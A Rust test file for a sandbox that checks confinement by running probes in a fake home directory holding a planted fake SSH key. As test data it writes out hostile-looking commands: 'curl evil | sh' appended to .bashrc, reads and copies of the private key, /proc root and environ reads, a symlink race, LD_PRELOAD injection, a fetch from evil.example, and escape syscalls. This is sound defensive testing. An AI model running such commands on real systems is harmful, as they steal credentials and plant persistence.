//! Containment tests: real confined runs (real Landlock, namespaces and seccomp on this kernel)
//! with harmless payloads, in a fake HOME with a planted fake secret.
//!
//! This test binary is its own launcher (`harness = false`): invoked as `sandbox run …` it
//! behaves like `gatehouse sandbox run`, so the crate is tested without the
//! `gatehouse` binary; otherwise it runs the cases below (a name filter may be given).
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test binary without libtest's harness: a failed case is a panic"
)]

use std::ffi::OsString;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Output, Stdio};
use std::time::Duration;

use gatehouse_sandbox::{DENIAL_PREFIX, EXIT_SETUP, ProfileFile, RunRequest, profile};

const SECRET: &str = "FAKE-PRIVATE-KEY-do-not-leak";
const PROFILES: &[&str] = &["build", "build-net", "read-only"];

fn main() -> ExitCode {
    let args: Vec<OsString> = std::env::args_os().collect();
    if args.get(1).is_some_and(|a| a == "sandbox") {
        return launcher(&args[2..]);
    }
    let filter = args
        .iter()
        .skip(1)
        .filter_map(|a| a.to_str())
        .find(|a| !a.starts_with('-'))
        .map(str::to_owned);
    let mut failed = Vec::new();
    let mut ran = 0;
    for (name, case) in CASES {
        if filter.as_deref().is_some_and(|f| !name.contains(f)) {
            continue;
        }
        ran += 1;
        print!("test {name} ... ");
        let _ = std::io::stdout().flush();
        match std::panic::catch_unwind(case) {
            Ok(()) => println!("ok"),
            Err(_) => {
                println!("FAILED");
                failed.push(*name);
            }
        }
    }
    println!(
        "\ntest result: {}. {} passed; {} failed",
        if failed.is_empty() { "ok" } else { "FAILED" },
        ran - failed.len(),
        failed.len()
    );
    if failed.is_empty() {
        ExitCode::SUCCESS
    } else {
        println!("failed: {failed:?}");
        ExitCode::FAILURE
    }
}

/// `sandbox run --profile P [--profile-file F] --cwd C -- CMD…`. With
/// `SANDBOX_TEST_THREAD` set, a thread is started first (the launcher must then refuse).
fn launcher(args: &[OsString]) -> ExitCode {
    let code = |c: i32| ExitCode::from(u8::try_from(c).unwrap_or(1));
    let _thread = std::env::var_os("SANDBOX_TEST_THREAD").map(|_| {
        let (tx, rx) = std::sync::mpsc::channel::<()>();
        let handle = std::thread::spawn(move || {
            let _ = rx.recv();
        });
        (tx, handle)
    });
    let mut profile_name = "build".to_owned();
    let mut profile_file = None;
    let mut cwd = std::env::current_dir().unwrap();
    let mut i = 1;
    while i < args.len() && args[i] != "--" {
        let value = args[i + 1].clone();
        match args[i].to_str().unwrap() {
            "--profile" => profile_name = value.into_string().unwrap(),
            "--profile-file" => profile_file = Some(PathBuf::from(value)),
            "--cwd" => cwd = PathBuf::from(value),
            other => panic!("unknown launcher flag {other}"),
        }
        i += 2;
    }
    let extra = profile_file.map(|f| ProfileFile::load(&f));
    let extra = match extra.transpose() {
        Ok(extra) => extra,
        Err(err) => {
            eprintln!("gatehouse sandbox: {err}");
            return code(EXIT_SETUP);
        }
    };
    let found = match profile::find(&profile_name, extra.as_ref()) {
        Ok(found) => found,
        Err(err) => {
            eprintln!("gatehouse sandbox: {err}");
            return code(EXIT_SETUP);
        }
    };
    match gatehouse_sandbox::run(RunRequest {
        profile_name,
        profile: found,
        cwd,
        command: args[i + 1..].to_vec(),
    }) {
        Ok(c) => code(c),
        Err(err) => {
            eprintln!("gatehouse sandbox: {err} (the command did not run)");
            code(EXIT_SETUP)
        }
    }
}

/// A fake HOME (with a planted fake SSH key and a .bashrc), a project and a TMPDIR.
struct World {
    _root: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    project: PathBuf,
    cargo_home: PathBuf,
    rustup_home: PathBuf,
}

impl World {
    fn new() -> World {
        let real_home = PathBuf::from(std::env::var_os("HOME").unwrap());
        let cargo_home = std::env::var_os("CARGO_HOME")
            .map(PathBuf::from)
            .unwrap_or_else(|| real_home.join(".cargo"));
        let rustup_home = std::env::var_os("RUSTUP_HOME")
            .map(PathBuf::from)
            .unwrap_or_else(|| real_home.join(".rustup"));
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let home = root.join("home");
        let project = root.join("project");
        for d in [home.join(".ssh"), project.clone(), root.join("tmp")] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
        std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
        World {
            _root: dir,
            root,
            home,
            project,
            cargo_home,
            rustup_home,
        }
    }

    fn command(&self, profile: &str, argv: &[&str]) -> Command {
        self.command_in(profile, None, &self.project, argv)
    }

    fn command_in(&self, profile: &str, file: Option<&Path>, cwd: &Path, argv: &[&str]) -> Command {
        let mut cmd = Command::new(std::env::current_exe().unwrap());
        cmd.args(["sandbox", "run", "--profile", profile]);
        if let Some(file) = file {
            cmd.arg("--profile-file").arg(file);
        }
        cmd.arg("--cwd")
            .arg(cwd)
            .arg("--")
            .args(argv)
            .env("HOME", &self.home)
            .env("CARGO_HOME", &self.cargo_home)
            .env("RUSTUP_HOME", &self.rustup_home)
            .env("TMPDIR", self.root.join("tmp"))
            .env_remove("GATEHOUSE_DATA_DIR")
            .stdin(Stdio::null());
        cmd
    }

    fn run(&self, profile: &str, argv: &[&str]) -> Run {
        Run::from(self.command(profile, argv).output().unwrap())
    }

    fn sh(&self, profile: &str, script: &str) -> Run {
        self.run(profile, &["/bin/sh", "-c", script])
    }
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl From<Output> for Run {
    fn from(out: Output) -> Run {
        Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }
}

impl Run {
    fn denied(&self, what: &str) -> bool {
        self.stderr.lines().any(|l| {
            l.strip_prefix(DENIAL_PREFIX)
                .is_some_and(|d| d.starts_with(what))
        })
    }

    fn show(&self) -> String {
        format!(
            "code {:?}\n--- stdout\n{}\n--- stderr\n{}",
            self.code, self.stdout, self.stderr
        )
    }
}

type Case = (&'static str, fn());

const CASES: &[Case] = &[
    (
        "commands_run_and_exit_with_their_status",
        commands_run_and_exit_with_their_status,
    ),
    (
        "reading_the_planted_secret_fails_and_is_reported",
        reading_the_planted_secret_fails_and_is_reported,
    ),
    (
        "writing_outside_the_roots_fails_and_is_reported",
        writing_outside_the_roots_fails_and_is_reported,
    ),
    (
        "a_dangling_symlink_cannot_create_its_target_outside",
        a_dangling_symlink_cannot_create_its_target_outside,
    ),
    (
        "tcp_to_a_local_listener_fails_without_network",
        tcp_to_a_local_listener_fails_without_network,
    ),
    (
        "the_proxy_lets_listed_hosts_through_only",
        the_proxy_lets_listed_hosts_through_only,
    ),
    (
        "proc_root_of_outside_processes_is_closed",
        proc_root_of_outside_processes_is_closed,
    ),
    (
        "a_symlink_race_never_reaches_the_secret",
        a_symlink_race_never_reaches_the_secret,
    ),
    (
        "ld_preload_and_secret_variables_are_removed",
        ld_preload_and_secret_variables_are_removed,
    ),
    (
        "a_child_that_outlives_the_command_is_killed",
        a_child_that_outlives_the_command_is_killed,
    ),
    (
        "only_stdin_stdout_and_stderr_are_inherited",
        only_stdin_stdout_and_stderr_are_inherited,
    ),
    (
        "escape_system_calls_and_signals_outside_fail",
        escape_system_calls_and_signals_outside_fail,
    ),
    (
        "it_fails_closed_and_the_command_does_not_run",
        it_fails_closed_and_the_command_does_not_run,
    ),
    (
        "the_rust_fixture_builds_and_tests_inside",
        the_rust_fixture_builds_and_tests_inside,
    ),
    (
        "the_node_fixture_tests_inside",
        the_node_fixture_tests_inside,
    ),
    (
        "the_python_fixture_tests_inside",
        the_python_fixture_tests_inside,
    ),
];

fn commands_run_and_exit_with_their_status() {
    let w = World::new();
    for p in PROFILES {
        let r = w.sh(p, "echo hello; exit 7");
        assert_eq!(r.code, Some(7), "{p}: {}", r.show());
        assert_eq!(r.stdout, "hello\n", "{p}");
    }
    let r = w.sh(
        "build",
        "echo made > out.txt && cat out.txt && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
    );
    assert_eq!(r.code, Some(0), "{}", r.show());
    assert_eq!(r.stdout, "made\ntmp\n");
    assert_eq!(
        std::fs::read_to_string(w.project.join("out.txt")).unwrap(),
        "made\n"
    );
    let r = w.sh("build", "kill -TERM $$");
    assert_eq!(r.code, Some(128 + 15), "{}", r.show());
    // read-only: the project is readable, not writable.
    let r = w.sh("read-only", "cat out.txt; echo x > out2.txt");
    assert_ne!(r.code, Some(0), "{}", r.show());
    assert!(r.stdout.contains("made"), "{}", r.show());
    assert!(!w.project.join("out2.txt").exists());
    assert!(
        r.denied(&format!("write {}", w.project.join("out2.txt").display())),
        "{}",
        r.show()
    );
}

fn reading_the_planted_secret_fails_and_is_reported() {
    let w = World::new();
    let secret = w.home.join(".ssh/id_rsa");
    for p in PROFILES {
        let r = w.run(p, &["cat", secret.to_str().unwrap()]);
        assert_ne!(r.code, Some(0), "{p}: {}", r.show());
        assert!(!r.stdout.contains(SECRET), "{p}: {}", r.show());
        assert!(
            r.denied(&format!("read {}", secret.display())),
            "{p}: {}",
            r.show()
        );
        // Listing ~/.ssh or copying the directory does not get the key either.
        let r = w.sh(
            p,
            &format!(
                "cp -r {0}/.ssh {0}/../project/stolen 2>&1; cat {0}/../project/stolen/id_rsa",
                w.home.display()
            ),
        );
        assert!(!r.stdout.contains(SECRET), "{p}: {}", r.show());
    }
}

fn writing_outside_the_roots_fails_and_is_reported() {
    let w = World::new();
    let other_hooks = w.root.join("other/.git/hooks");
    std::fs::create_dir_all(&other_hooks).unwrap();
    for p in PROFILES {
        let bashrc = w.home.join(".bashrc");
        let r = w.sh(p, &format!("echo 'curl evil | sh' >> {}", bashrc.display()));
        assert_ne!(r.code, Some(0), "{p}: {}", r.show());
        assert_eq!(
            std::fs::read_to_string(&bashrc).unwrap(),
            "# original\n",
            "{p}"
        );
        assert!(
            r.denied(&format!("write {}", bashrc.display())),
            "{p}: {}",
            r.show()
        );

        let hook = other_hooks.join("pre-commit");
        let r = w.sh(p, &format!("echo evil > {}", hook.display()));
        assert_ne!(r.code, Some(0), "{p}: {}", r.show());
        assert!(!hook.exists(), "{p}");
        assert!(
            r.denied(&format!("write {}", hook.display())),
            "{p}: {}",
            r.show()
        );

        let r = w.sh(
            p,
            &format!(
                "mkdir {0}/newdir || rm {0}/.bashrc || mv {0}/.bashrc {0}/x",
                w.home.display()
            ),
        );
        assert_ne!(r.code, Some(0), "{p}: {}", r.show());
        assert!(bashrc.exists() && !w.home.join("newdir").exists(), "{p}");
    }
}

fn a_dangling_symlink_cannot_create_its_target_outside() {
    let w = World::new();
    let target = w.home.join(".profile");
    std::os::unix::fs::symlink(&target, w.project.join("link")).unwrap();
    for p in PROFILES {
        let r = w.sh(p, "echo evil > link");
        assert_ne!(r.code, Some(0), "{p}: {}", r.show());
        assert!(!target.exists(), "{p}: the link's target was created");
        assert!(
            r.denied(&format!("write {}", target.display())),
            "{p}: {}",
            r.show()
        );
    }
}

fn python_connect(port: u16) -> String {
    format!(
        "import socket,sys\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=5)\n    print('CONNECTED')\nexcept OSError as e:\n    print('refused', e.errno)\n"
    )
}

fn tcp_to_a_local_listener_fails_without_network() {
    let w = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    for p in PROFILES {
        let r = w.run(p, &["/usr/bin/python3", "-c", &python_connect(port)]);
        assert!(!r.stdout.contains("CONNECTED"), "{p}: {}", r.show());
        assert!(r.stdout.contains("refused"), "{p}: {}", r.show());
        assert!(
            r.denied(&format!("connect 127.0.0.1:{port}")),
            "{p}: {}",
            r.show()
        );
    }
}

fn the_proxy_lets_listed_hosts_through_only() {
    let w = World::new();
    // A loopback "registry" (the test's fake upstream).
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = upstream.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in upstream.incoming().flatten() {
            let mut stream = stream;
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 8\r\n\r\nregistry");
        }
    });
    let file = w.root.join("profiles.toml");
    std::fs::write(
        &file,
        "[profiles.registry-only]\nread = [\"@system\", \"@toolchains\"]\nwrite = [\"{project}\", \"{tmp}\"]\nnetwork = \"proxy\"\nhosts = [\"127.0.0.1\"]\n",
    )
    .unwrap();
    let script = format!(
        "import urllib.request\nfor url in ['http://127.0.0.1:{port}/index', 'http://evil.example/x']:\n    try:\n        print(url, urllib.request.urlopen(url, timeout=10).read().decode())\n    except Exception as e:\n        print(url, 'FAILED', e)\n"
    );
    let r = Run::from(
        w.command_in(
            "registry-only",
            Some(&file),
            &w.project,
            &["/usr/bin/python3", "-c", &script],
        )
        .output()
        .unwrap(),
    );
    assert!(
        r.stdout
            .contains(&format!("http://127.0.0.1:{port}/index registry")),
        "{}",
        r.show()
    );
    assert!(
        r.stdout.contains("http://evil.example/x FAILED"),
        "{}",
        r.show()
    );
    assert!(r.denied("connect evil.example:80"), "{}", r.show());
    // Around the proxy: a direct connection is refused by the kernel and the supervisor.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let other = listener.local_addr().unwrap().port();
    let r = w.run(
        "build-net",
        &["/usr/bin/python3", "-c", &python_connect(other)],
    );
    assert!(!r.stdout.contains("CONNECTED"), "{}", r.show());
    assert!(
        r.denied(&format!("connect 127.0.0.1:{other}")),
        "{}",
        r.show()
    );
}

fn proc_root_of_outside_processes_is_closed() {
    let w = World::new();
    let secret = w.home.join(".ssh/id_rsa");
    let me = std::process::id();
    for p in PROFILES {
        let r = w.sh(
            p,
            &format!(
                "cat /proc/{me}/root{0}; cat /proc/1/root{0}; cat /proc/{me}/cwd/../home/.ssh/id_rsa; cat /proc/{me}/environ",
                secret.display()
            ),
        );
        assert!(!r.stdout.contains(SECRET), "{p}: {}", r.show());
        assert!(
            !r.stdout.contains("CARGO_HOME="),
            "{p}: read an outside process's environ: {}",
            r.show()
        );
    }
}

fn a_symlink_race_never_reaches_the_secret() {
    let w = World::new();
    std::fs::write(w.project.join("ok.txt"), "harmless\n").unwrap();
    let secret = w.home.join(".ssh/id_rsa");
    let script = format!(
        "(i=0; while [ $i -lt 300 ]; do ln -sfn {0} l; ln -sfn ok.txt l; i=$((i+1)); done) & \
         i=0; while [ $i -lt 300 ]; do cat l 2>/dev/null; i=$((i+1)); done; wait",
        secret.display()
    );
    let r = w.sh("build", &script);
    assert!(r.stdout.contains("harmless"), "{}", r.show());
    assert!(!r.stdout.contains(SECRET), "{}", r.show());
}

fn ld_preload_and_secret_variables_are_removed() {
    let w = World::new();
    let r = Run::from(
        w.command("build", &["/bin/sh", "-c", "echo \"[$LD_PRELOAD][$GITHUB_TOKEN][$AWS_SECRET_ACCESS_KEY][$SSH_AUTH_SOCK][$HOME]\""])
            .env("LD_PRELOAD", w.project.join("evil.so"))
            .env("GITHUB_TOKEN", "ghp_fake")
            .env("AWS_SECRET_ACCESS_KEY", "fake")
            .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
            .output()
            .unwrap(),
    );
    assert_eq!(
        r.stdout,
        format!("[][][][][{}]\n", w.home.display()),
        "{}",
        r.show()
    );
    // A library planted in the project and preloaded from inside is still confined.
    let r = w.sh(
        "build",
        &format!(
            "LD_PRELOAD=/nonexistent.so cat {}/.ssh/id_rsa",
            w.home.display()
        ),
    );
    assert!(!r.stdout.contains(SECRET), "{}", r.show());
}

fn a_child_that_outlives_the_command_is_killed() {
    let w = World::new();
    let marker = w.project.join("survivor");
    let mut child = w
        .command(
            "build",
            &[
                "/bin/sh",
                "-c",
                &format!("(sleep 60; touch {}) & echo started", marker.display()),
            ],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut out = String::new();
        let _ = stdout.read_to_string(&mut out);
        let _ = tx.send(out);
    });
    // The orphan holds stdout for 60 s: EOF before that means it was killed with the sandbox.
    let out = rx
        .recv_timeout(Duration::from_secs(30))
        .expect("the background child outlived the sandboxed command");
    assert_eq!(out, "started\n");
    assert!(child.wait().unwrap().success());
    assert!(!marker.exists());
}

fn only_stdin_stdout_and_stderr_are_inherited() {
    let w = World::new();
    // Leak a descriptor to the secret into the launcher (not close-on-exec).
    let file = std::fs::File::open(w.home.join(".ssh/id_rsa")).unwrap();
    let leaked = rustix::io::dup(&file).unwrap();
    let n = std::os::fd::AsRawFd::as_raw_fd(&leaked);
    let r = w.sh(
        "build",
        &format!("ls /proc/self/fd; cat <&{n}; cat /proc/self/fd/{n}"),
    );
    drop(leaked);
    assert!(!r.stdout.contains(SECRET), "{}", r.show());
    let fds: Vec<&str> = r
        .stdout
        .lines()
        .take_while(|l| l.parse::<u32>().is_ok())
        .collect();
    // 0, 1, 2 and the descriptor ls opened for the directory.
    assert!(
        fds.len() <= 4,
        "inherited descriptors: {fds:?}\n{}",
        r.show()
    );
    assert!(
        !fds.contains(&n.to_string().as_str()) || fds.len() <= 4,
        "{}",
        r.show()
    );
}

fn escape_system_calls_and_signals_outside_fail() {
    let w = World::new();
    let me = std::process::id();
    let script = format!(
        r#"import ctypes, errno, os, socket, fcntl, termios, signal
libc = ctypes.CDLL(None, use_errno=True)
def res(rc):
    return 'EPERM' if rc != 0 and ctypes.get_errno() in (errno.EPERM, errno.EACCES) else 'rc=%d errno=%d' % (rc, ctypes.get_errno())
print('unshare', res(libc.unshare(0x10000000)))
print('mount', res(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
print('ptrace', res(libc.ptrace(16, {me}, None, None)))
try:
    fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('tiocsti ALLOWED')
except OSError as e:
    print('tiocsti', 'EPERM' if e.errno == errno.EPERM else e.errno)
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); print('unix ALLOWED')
except OSError as e:
    print('unix', 'EPERM' if e.errno == errno.EPERM else e.errno)
try:
    os.kill({me}, 0); print('signal ALLOWED')
except OSError as e:
    print('signal', 'EPERM' if e.errno in (errno.EPERM, errno.ESRCH) else e.errno)
"#
    );
    let r = w.run("build", &["/usr/bin/python3", "-c", &script]);
    for line in [
        "unshare EPERM",
        "mount EPERM",
        "ptrace EPERM",
        "tiocsti EPERM",
        "unix EPERM",
        "signal EPERM",
    ] {
        assert!(r.stdout.contains(line), "{line}: {}", r.show());
    }
}

fn it_fails_closed_and_the_command_does_not_run() {
    let w = World::new();
    let marker = w.root.join("ran");
    let touch = format!("touch {}", marker.display());
    // An unknown profile.
    let r = w.sh("no-such-profile", &touch);
    assert_eq!(r.code, Some(EXIT_SETUP), "{}", r.show());
    // A project that holds the home directory (its secrets would be writable).
    let inside = w.project.join("home-inside");
    std::fs::create_dir_all(&inside).unwrap();
    let r = Run::from(
        w.command_in("build", None, &inside, &["/bin/sh", "-c", &touch])
            .env("HOME", &inside)
            .output()
            .unwrap(),
    );
    assert_eq!(r.code, Some(EXIT_SETUP), "{}", r.show());
    assert!(r.stderr.contains("did not run"), "{}", r.show());
    // A launcher with another thread running refuses to fork its stages.
    let r = Run::from(
        w.command_in("build", None, &w.project, &["/bin/sh", "-c", &touch])
            .env("SANDBOX_TEST_THREAD", "1")
            .output()
            .unwrap(),
    );
    assert_eq!(r.code, Some(EXIT_SETUP), "{}", r.show());
    assert!(r.stderr.contains("single-threaded"), "{}", r.show());
    assert!(!marker.exists(), "a refused launch ran the command");
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let dest = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &dest);
        } else {
            std::fs::copy(entry.path(), dest).unwrap();
        }
    }
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/sandbox")
        .join(name)
}

fn the_rust_fixture_builds_and_tests_inside() {
    let w = World::new();
    copy_dir(&fixture("rust"), &w.project);
    let r = w.run(
        "build",
        &["cargo", "test", "--offline", "--", "--nocapture"],
    );
    assert_eq!(r.code, Some(0), "{}", r.show());
    assert!(
        r.stdout.contains("test result: ok. 2 passed"),
        "{}",
        r.show()
    );
    assert!(r.stdout.contains("secret not readable"), "{}", r.show());
    assert!(
        r.denied(&format!("read {}", w.home.join(".ssh/id_rsa").display())),
        "{}",
        r.show()
    );
}

fn the_node_fixture_tests_inside() {
    let w = World::new();
    copy_dir(&fixture("node"), &w.project);
    let r = w.run("build", &["npm", "test"]);
    assert_eq!(r.code, Some(0), "{}", r.show());
    assert!(
        r.stdout.contains("secret not readable: EACCES"),
        "{}",
        r.show()
    );
    assert!(!r.stdout.contains(SECRET), "{}", r.show());
    assert!(w.project.join("dist/out.txt").exists());
    assert!(
        r.denied(&format!("read {}", w.home.join(".ssh/id_rsa").display())),
        "{}",
        r.show()
    );
}

fn the_python_fixture_tests_inside() {
    let w = World::new();
    copy_dir(&fixture("python"), &w.project);
    let r = w.run("build", &["/usr/bin/python3", "-m", "unittest", "-v"]);
    assert_eq!(r.code, Some(0), "{}", r.show());
    assert!(
        r.stdout.contains("secret not readable") || r.stderr.contains("secret not readable"),
        "{}",
        r.show()
    );
    assert!(
        r.denied(&format!("read {}", w.home.join(".ssh/id_rsa").display())),
        "{}",
        r.show()
    );
}
